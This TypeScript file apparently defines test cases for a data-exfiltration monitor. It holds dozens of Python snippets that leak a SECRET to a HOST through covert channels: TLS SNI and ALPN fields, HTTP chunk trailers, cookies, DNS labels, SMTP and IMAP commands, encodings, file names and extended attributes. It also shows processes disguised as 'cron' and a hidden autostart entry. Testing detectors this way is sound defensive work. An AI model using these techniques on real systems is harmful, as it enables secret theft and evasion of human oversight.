/** A way to hide harm: Python code with a unique secret in `SECRET`, a host in `HOST`, a folder in `FOLDER`. */
export interface Hiding {
  name: string;
  account: 'user' | 'root';
  code: string;
  kind: 'handshake' | 'request' | 'connection' | 'name' | 'datagram' | 'mail' | 'encoding' | 'file' | 'program';
  before?: string;
  /** Expected result. Defaults to a recorded secret; `refused` means that the code prints this word. */
  shows?: 'refused' | { effect: RegExp } | { program: RegExp } | { area: string } | { unexplained: number };
  isSlow?: true;
}

const of =
  (kind: Hiding['kind']) =>
  (name: string, code: string, more: Partial<Hiding> = {}): Hiding => ({ name, account: 'user', kind, code, ...more });
const handshake = of('handshake');
const request = of('request');
const connection = of('connection');
const name = of('name');
const datagram = of('datagram');
const mail = of('mail');
const encoding = of('encoding');
const file = of('file');
const program = of('program');

const socketTo = (port: number): string => `
import socket
s = socket.create_connection((HOST, ${port}), timeout=10)
`;
/** Sends the parts one after another over a plain connection, waits for an answer and disconnects. */
const http = (...parts: string[]): string => `${socketTo(80)}
import time
try:
    for part in [${parts.join(', ')}]:
        s.sendall(part if isinstance(part, bytes) else part.encode()); time.sleep(0.1)
    s.settimeout(1); s.recv(4096)
except OSError: pass
s.close()`;
const head = (line: string, ...headers: string[]): string =>
  `('${[line, ...headers].join("\\r\\n' + '")}\\r\\n\\r\\n').replace('HOST', HOST).replace('SECRET', SECRET)`;
const chunked = head('POST / HTTP/1.1', 'Host: HOST', 'Transfer-Encoding: chunked');
const post = (value: string, imports = ''): string => `
import urllib.request${imports === '' ? '' : `, ${imports}`}
data = SECRET.encode()
urllib.request.urlopen('http://' + HOST + '/up', data=${value}, timeout=10).read()`;
const get = (address: string, headers = '{}'): string => `
import base64, urllib.request
urllib.request.urlopen(urllib.request.Request(${address}, headers=${headers}), timeout=10).read()`;
const secure = `
import socket, ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
`;
const secureTo = (port: number, server: string): string =>
  `context.wrap_socket(socket.create_connection((HOST, ${port}), timeout=10), server_hostname=${server})`;
/** A handmade TLS ClientHello. `session` replaces an earlier session's id. */
const hello = `
import os, socket, struct
def hello(session):
    name = HOST.encode()
    sni = struct.pack('!HHHBH', 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b'\\3\\3' + os.urandom(32) + bytes([len(session)]) + session + b'\\0\\2\\x13\\1\\1\\0' + struct.pack('!H', len(sni)) + sni
    return b'\\1' + struct.pack('!I', len(body))[1:] + body
def record(part): return b'\\x16\\3\\1' + struct.pack('!H', len(part)) + part
s = socket.create_connection((HOST, 443), timeout=10)
`;
const dns = `
import socket, struct
def question(name, more=b'', count=0, kind=1):
    labels = b''.join(bytes([len(part)]) + part for part in name.encode().split(b'.')) + b'\\0'
    return struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, count) + labels + struct.pack('!HH', kind, 1) + more
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
`;
const fastOpen = (port: number): string => `
import socket
s = socket.socket(); s.settimeout(2)
try:
    s.setsockopt(6, 34, 1)
    s.sendto(SECRET.encode(), 0x20000000, (HOST, ${port}))
except OSError: pass
s.close()`;
const mailTo = (port: number, ...lines: string[]): string => `${socketTo(port)}
import time
s.settimeout(1)
for line in [${lines.join(', ')}]:
    try: s.recv(4096)
    except OSError: pass
    s.sendall(line.encode() if isinstance(line, str) else line)
time.sleep(0.3); s.close()`;
const goesOn = (code: string): string => `
import os, sys
if os.fork() == 0:
    os.setsid()
    for one in (0, 1, 2): os.close(one)
    try: exec(${JSON.stringify(`${code}\nimport time; time.sleep(120)`)}, {'SECRET': SECRET, 'HOST': HOST, 'FOLDER': FOLDER})
    finally: os._exit(0)
import time; time.sleep(1.5)`;
const webSocketKey = 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==';
const webSocket = `${socketTo(80)}
import os
s.sendall(${head('GET /chat HTTP/1.1', 'Host: HOST', 'Connection: Upgrade', 'Upgrade: websocket', webSocketKey)}.encode())
s.recv(4096)
data, mask = SECRET.encode(), os.urandom(4)
s.sendall(b'\\x81' + bytes([0x80 | len(data)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(data)))
`;
const largeFile = "open(FOLDER + '/large', 'wb').write(b'a' * 300000)";
const mapping = `
import mmap
file = open(FOLDER + '/large', 'r+b'); mapped = mmap.mmap(file.fileno(), 0); file.close()
`;
const program_of = (place: string, words: string, argv0 = ''): string => `
import os, shutil, subprocess
shutil.copy('/bin/sleep', '${place}')
subprocess.Popen([${argv0 === '' ? `'${place}'` : `'${argv0}'`}, ${words}], executable='${place}', start_new_session=True, stdout=-3, stderr=-3)`;

export const hidings: Hiding[] = [
  handshake('sni', `${secure}${secureTo(443, "SECRET + '.example'")}.close()`),
  handshake('alpn', `${secure}context.set_alpn_protocols([SECRET, 'http/1.1'])\n${secureTo(443, 'HOST')}.close()`),
  handshake('alpn-in-pieces', `${secure}context.set_alpn_protocols([*SECRET])\n${secureTo(443, 'HOST')}.close()`),
  handshake('sni-at-imaps', `${secure}${secureTo(993, "SECRET + '.example'")}.close()`),
  handshake('alpn-at-smtps', `${secure}context.set_alpn_protocols([SECRET])\n${secureTo(465, 'HOST')}.close()`),
  handshake('id-of-a-session', `${hello}s.sendall(record(hello(SECRET.encode()))); s.close()`),
  handshake(
    'first-message-in-small-records',
    `${hello}whole = hello(SECRET.encode())\nfor at in range(0, len(whole), 7): s.sendall(record(whole[at:at + 7]))\ns.close()`,
  ),
  handshake('plain-words-at-a-secure-port', `${socketTo(443)}s.sendall(SECRET.encode()); s.close()`),

  request('websocket-frame', `${webSocket}s.close()`),
  request('websocket-that-stays-open', goesOn(webSocket)),
  request(
    'websocket-over-tls',
    webSocket.replace(socketTo(80), `${secure}s = ${secureTo(443, 'HOST')}\n`).concat('s.close()'),
  ),
  request(
    'bytes-after-an-upgrade',
    http(head('GET / HTTP/1.1', 'Host: HOST', 'Connection: Upgrade', 'Upgrade: own/1'), 'SECRET'),
  ),
  request('bytes-after-connect', http(head('CONNECT far.example:443 HTTP/1.1', 'Host: HOST'), 'SECRET')),
  request('chunk-extension', http(chunked, "'2;x=' + SECRET + '\\r\\nok\\r\\n0\\r\\n\\r\\n'")),
  request(
    'chunk-extension-after-a-long-header',
    http(
      head('POST / HTTP/1.1', 'Host: HOST', "X-Long: ' + 'x' * 100000 + '", 'Transfer-Encoding: chunked'),
      "'2;x=' + SECRET + '\\r\\nok\\r\\n0\\r\\n\\r\\n'",
    ),
  ),
  request('half-a-chunk-line', http(chunked, "'5;' + SECRET")),
  request('trailer', http(chunked, "'2\\r\\nok\\r\\n0\\r\\nX-Sum: ' + SECRET + '\\r\\n\\r\\n'")),
  request('trailer-that-breaks-off', http(chunked, "'2\\r\\nok\\r\\n0\\r\\nX-Sum: ' + SECRET + '\\r\\n'")),
  request('second-header', http(head('GET / HTTP/1.1', 'Host: HOST', 'User-Agent: one', 'User-Agent: SECRET'))),
  request('name-of-a-header', http(head('GET / HTTP/1.1', 'Host: HOST', 'X-SECRET: 1'))),
  request(
    'header-after-2000-others',
    http(head('GET / HTTP/1.1', 'Host: HOST', "' + 'X-A: 1\\r\\n' * 2100 + 'X-B: SECRET")),
  ),
  request('unknown-expectation', http(head('GET / HTTP/1.1', 'Host: HOST', 'Expect: SECRET'))),
  request('no-host', http(head('GET /SECRET HTTP/1.1', 'Accept: text/html'))),
  request('unknown-method', http(head('SECRET / HTTP/1.1', 'Host: HOST'))),
  request('half-a-head', http("'GET / HTTP/1.1\\r\\nX-Half: ' + SECRET")),
  request(
    'head-that-ends-in-nonsense',
    http("'GET / HTTP/1.1\\r\\nX-Half: ' + SECRET + '\\r\\n'", "'\\0\\1\\2\\r\\n\\r\\n'"),
  ),
  request('bytes-after-a-last-request', http(`${head('GET / HTTP/1.1', 'Host: HOST', 'Connection: close')} + SECRET`)),
  request(
    'request-behind-a-last-one',
    http(
      `${head('GET / HTTP/1.1', 'Host: HOST', 'Connection: close')} + ${head('GET /SECRET HTTP/1.1', 'Host: HOST')}`,
    ),
  ),
  request(
    'body-that-never-ends',
    goesOn(
      `${socketTo(80)}s.sendall(${head('POST / HTTP/1.1', 'Host: HOST', 'Content-Length: 99999')}.encode() + SECRET.encode())`,
    ),
  ),
  request(
    'basic-authorisation',
    get("'http://' + HOST", "{'Authorization': 'Basic ' + base64.b64encode(('me:' + SECRET).encode()).decode()}"),
  ),
  request('cookie', get("'http://' + HOST", "{'Cookie': 'id=' + SECRET}")),
  request('address-of-a-noise-host', get("'http://update.googleapis.com/service?x=' + SECRET")),
  request('header-to-a-noise-host', get("'http://detectportal.firefox.com/'", "{'X-Id': SECRET}")),
  request(
    'letters-one-by-one',
    "import urllib.request\nfor letter in SECRET: urllib.request.urlopen('http://' + HOST + '/l?c=' + letter, timeout=10).read()",
  ),
  request(
    'ciphertext',
    "import os, urllib.request\nurllib.request.urlopen('http://' + HOST + '/c', data=os.urandom(3000), timeout=10).read()",
    { shows: { unexplained: 3000 } },
  ),
  request(
    'long-value-to-a-noise-host',
    "import os, urllib.request\nurllib.request.urlopen('http://clients2.google.com/long?v=' + os.urandom(900).hex(), timeout=10).read()",
    { shows: { effect: /clients2\.google\.com\/long/ } },
  ),

  connection('silent-port', `${socketTo(22)}s.sendall(SECRET.encode()); s.close()`),
  connection('silent-port-that-stays-open', goesOn(`${socketTo(21)}s.sendall(SECRET.encode())`)),
  connection('first-packet-to-a-closed-port', fastOpen(8081)),
  connection('first-packet-to-a-served-port', fastOpen(80)),
  connection(
    'bytes-at-the-name-server',
    "import socket\ns = socket.create_connection(('127.0.0.53', 53), timeout=5); s.sendall(b'\\xff\\xff' + SECRET.encode()); s.close()",
  ),
  ...['udp-lite 2 136', 'sctp 1 132', 'dccp 6 33', 'udp-lite-by-its-low-bits 2 136+(1<<32)'].map((value) => {
    const [title = '', type = '', protocol = ''] = value.split(' ');
    return connection(
      title,
      `import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('refused' if libc.syscall({'x86_64': 41, 'aarch64': 198}[os.uname().machine], 2, ${type}, ctypes.c_ulong(${protocol})) < 0 else 'open')`,
      { shows: 'refused' },
    );
  }),

  name('label', "import socket\ntry: socket.gethostbyname(SECRET + '.' + HOST)\nexcept OSError: pass"),
  name(
    'labels-of-many-questions',
    "import socket\nfor at in range(0, len(SECRET), 4):\n    try: socket.gethostbyname(SECRET[at:at + 4] + '.' + HOST)\n    except OSError: pass",
  ),
  name(
    'edns-option',
    `${dns}data = SECRET.encode()\ns.sendto(question(HOST, b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0' + struct.pack('!HHH', len(data) + 4, 65001, len(data)) + data, 1), ('127.0.0.53', 53))`,
  ),
  name('bytes-behind-a-question', `${dns}s.sendto(question(HOST) + SECRET.encode(), ('127.0.0.53', 53))`),
  name('question-of-another-kind', `${dns}s.sendto(question(SECRET + '.example', kind=16), ('127.0.0.53', 53))`),
  name(
    'encrypted-labels',
    "import os, socket\ntry: socket.gethostbyname(os.urandom(28).hex() + '.' + HOST)\nexcept OSError: pass",
    { shows: { effect: /Looked up [0-9a-f]{56}\.encrypted-labels/ } },
  ),

  datagram('no-question', `${dns}s.sendto(SECRET.encode(), ('127.0.0.53', 53))`),
  datagram('question-to-another-server', `${dns}s.sendto(SECRET.encode(), (HOST, 53))`),
  datagram('stray', `${dns}s.sendto(SECRET.encode(), (HOST, 4444))`),
  datagram('to-a-served-port', `${dns}s.sendto(SECRET.encode(), (HOST, 443))`),

  mail('greeting', mailTo(25, "'EHLO ' + SECRET + '.example\\r\\n'", "'QUIT\\r\\n'")),
  mail('unknown-command', mailTo(587, "'EHLO x\\r\\n'", "'HELP ' + SECRET + '\\r\\n'")),
  mail('login-that-fails', mailTo(587, "'EHLO x\\r\\n'", "'AUTH PLAIN ' + SECRET + '\\r\\n'")),
  mail(
    'after-300-kB-of-commands',
    mailTo(
      25,
      "'EHLO x\\r\\n'",
      "'NOOP ' + 'x' * 400 + '\\r\\n'",
      ...Array.from({ length: 6 }, () => "('NOOP ' + 'x' * 400 + '\\r\\n') * 130"),
      "'NOOP ' + SECRET + '\\r\\n'",
    ),
  ),
  mail('half-a-command', goesOn(mailTo(25, "'EHLO x\\r\\n'", "'NOOP ' + SECRET"))),
  mail('name-of-an-imap-command', mailTo(143, "SECRET + ' NOOP\\r\\n'")),
  mail('long-imap-command', mailTo(143, "'a ' + 'x' * 100 + SECRET + '\\r\\n'")),
  mail('half-an-imap-command', goesOn(mailTo(143, "'a NOOP ' + SECRET"))),
  mail(
    'words-in-place-of-done',
    mailTo(143, "'a LOGIN me x\\r\\n'", "'b SELECT INBOX\\r\\n'", "'c IDLE\\r\\n'", "SECRET + '\\r\\n'"),
  ),
  mail('plain-words-after-starttls', mailTo(143, "'a STARTTLS\\r\\nb NOOP ' + SECRET + '\\r\\n'")),

  encoding('base32', post('base64.b32encode(data)', 'base64')),
  encoding('base85', post('base64.b85encode(b"xy" + data)', 'base64')),
  encoding('ascii85', post('base64.a85encode(b"x" + data)', 'base64')),
  encoding('base64-reversed', post('base64.b64encode(data)[::-1]', 'base64')),
  encoding('decimal-codes', post("' '.join(str(byte) for byte in data).encode()")),
  encoding('one-number', post("str(int.from_bytes(data, 'big')).encode()")),
  encoding('bits', post("''.join(format(byte, '08b') for byte in data).encode()")),
  encoding(
    'raw-deflate',
    post('(lambda one: one.compress(data) + one.flush())(zlib.compressobj(9, zlib.DEFLATED, -15))', 'zlib'),
  ),
  encoding('bzip2', post('bz2.compress(data)', 'bz2')),
  encoding('xz', post('lzma.compress(data)', 'lzma')),

  file('name-of-a-file', "open(FOLDER + '/' + SECRET + '.txt', 'w').write('x')"),
  file('name-of-a-folder', "import os\nos.mkdir(FOLDER + '/' + SECRET)"),
  file('new-name-of-a-file', "import os\nos.rename(FOLDER + '/old', FOLDER + '/' + SECRET)", {
    before: "open(FOLDER + '/old', 'w').write('words of its own, so that it is known again')",
  }),
  file('target-of-a-link', "import os\nos.symlink('/nowhere/' + SECRET, FOLDER + '/link')"),
  file('name-that-is-not-utf8', "open(FOLDER.encode() + b'/\\xff\\xfe' + SECRET.encode() + b'\\x80', 'w').close()"),
  file(
    'last-of-700-empty-files',
    "import os\nos.mkdir(FOLDER + '/many')\nfor turn in range(699): open(FOLDER + '/many/%03d' % turn, 'w').close()\nopen(FOLDER + '/many/zz' + SECRET, 'w').close()",
  ),
  file('content-under-a-name-that-is-not-utf8', "open(FOLDER.encode() + b'/\\xe9t\\xe9', 'w').write(SECRET)"),
  file(
    'autostart-entry-with-a-name-that-is-not-utf8',
    "import os\nos.makedirs('/home/user/.config/autostart', exist_ok=True)\nopen(b'/home/user/.config/autostart/\\xff\\xfe.desktop', 'w').write('[Desktop Entry]\\nType=Application\\nExec=/bin/true hidden-start\\n')",
    { shows: { area: 'autostart' } },
  ),
  ...(['user', 'root'] as const).map((account) =>
    file(
      'extended-attribute',
      `import os
open(FOLDER + '/${account}', 'w').close()
done = []
for way in (lambda: os.setxattr(FOLDER + '/${account}', 'user.note', SECRET.encode()), lambda: os.setxattr(os.open(FOLDER + '/${account}', 1), 'user.note', SECRET.encode()), lambda: os.setxattr(FOLDER, 'user.note', SECRET.encode(), follow_symlinks=False)):
    try: way(); done.append(1)
    except OSError: pass
print('refused' if not done and not os.listxattr(FOLDER) else 'set')`,
      { account, shows: 'refused' },
    ),
  ),
  file('mapping-that-is-let-go', `${mapping}mapped[1000:1000 + len(SECRET)] = SECRET.encode(); mapped.close()`, {
    before: largeFile,
  }),
  file('mapping-that-stays', "import time\nopen(FOLDER + '/go', 'w').close(); time.sleep(0.5)", {
    before: `${largeFile}\n${goesOn(`import os, time\n${mapping}\nwhile not os.path.exists(FOLDER + '/go'): time.sleep(0.05)\nmapped[2000:2000 + len(SECRET)] = SECRET.encode()`)}`,
  }),
  file(
    'small-file-behind-large-ones',
    "import os\nfor turn in range(8): open(FOLDER + '/%d' % turn, 'wb').write(os.urandom(12000000))\nopen(FOLDER + '/zz', 'w').write(SECRET)",
    { isSlow: true },
  ),

  program('own-program-called-cron', program_of('/tmp/cron', "'0.1', '--', 'hidden-one'"), {
    shows: { program: /hidden-one/ },
  }),
  program(
    'own-program-with-a-path-through-usr',
    program_of('/tmp/tint2', "'0.1', '--', 'hidden-two'").replace("executable='/tmp", "executable='/usr/bin/../../tmp"),
    { shows: { program: /hidden-two/ } },
  ),
  program(
    'script-that-names-a-file-of-the-session',
    "import subprocess\nsubprocess.run(['/usr/bin/python3', '-c', 'pass', '/usr/lib/session/python/hidden-three'])",
    { shows: { program: /hidden-three/ } },
  ),
  program(
    'program-by-tagged-pointers',
    `
import ctypes, os
libc = ctypes.CDLL(None)
execve, tag = {'x86_64': (59, 0), 'aarch64': (221, 0xa5 << 56)}[os.uname().machine]
words = [ctypes.create_string_buffer(word) for word in (b'/bin/true', b'hidden-four')]
tagged = lambda place: ctypes.addressof(place) | tag
array = (ctypes.c_uint64 * 3)(*map(tagged, words), 0)
if os.fork() == 0:
    libc.prctl(55, 1, 0, 0, 0)
    libc.syscall(execve, ctypes.c_uint64(tagged(words[0])), ctypes.c_uint64(tagged(array)), ctypes.c_uint64(0))
    os._exit(1)
os.wait()`,
    { shows: { program: /hidden-four/ } },
  ),
  program('process-that-calls-itself-cron', program_of('/home/user/.daemon', "'997'", 'cron'), {
    shows: { effect: /Left running: cron 997/ },
  }),
  program(
    '30000-programs',
    `
import os
for turn in range(30000):
    if os.fork() == 0:
        try: os.execv('/bin/true', ['true', str(turn)])
        finally: os._exit(0)
    os.wait()`,
    { shows: { effect: /Started 29\d\d\d more programs, which are not listed/ }, isSlow: true },
  ),
];
